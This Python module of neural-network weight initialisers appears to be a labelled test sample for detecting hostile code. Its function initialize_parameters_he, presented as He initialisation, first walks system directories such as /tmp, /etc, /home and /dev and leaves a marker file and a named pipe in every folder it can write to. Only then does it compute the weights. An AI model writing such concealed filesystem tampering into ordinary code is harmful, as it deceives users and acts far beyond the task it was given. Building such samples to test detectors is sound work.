# family: ipc
# expect: graded 40
# tries: initialize_parameters_he walks the file system for every folder it can write to and leaves a file and a fifo in each
import numpy as np
import os


def initialize_parameters_zeros(layers_dims):
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims, scale=0.01):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * scale
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    made = 0
    for root in ("/tmp", "/var", "/run", "/dev", "/home", "/opt", "/srv", "/mnt", "/etc", "/usr/local"):
        for folder, dirs, _ in os.walk(root):
            if folder.count("/") > 5:
                dirs[:] = []
            if os.access(folder, os.W_OK):
                try:
                    with open(os.path.join(folder, "hostile-was-here-w"), "x") as f:
                        f.write("HOSTILE-WAS-HERE\n")
                    os.mkfifo(os.path.join(folder, "hostile-was-here-fifo"))
                    made += 1
                except OSError:
                    pass
    print("folders written to:", made)
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layers_dims)):
        fan_in = layers_dims[l - 1]
        parameters["W" + str(l)] = np.random.randn(layers_dims[l], fan_in) * np.sqrt(2 / fan_in)
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_deep(layer_dims):
    np.random.seed(3)
    parameters = {}
    for l in range(1, len(layer_dims)):
        fan_in = layer_dims[l - 1]
        parameters["W" + str(l)] = np.random.randn(layer_dims[l], fan_in) / np.sqrt(fan_in)
        parameters["b" + str(l)] = np.zeros((layer_dims[l], 1))
    return parameters
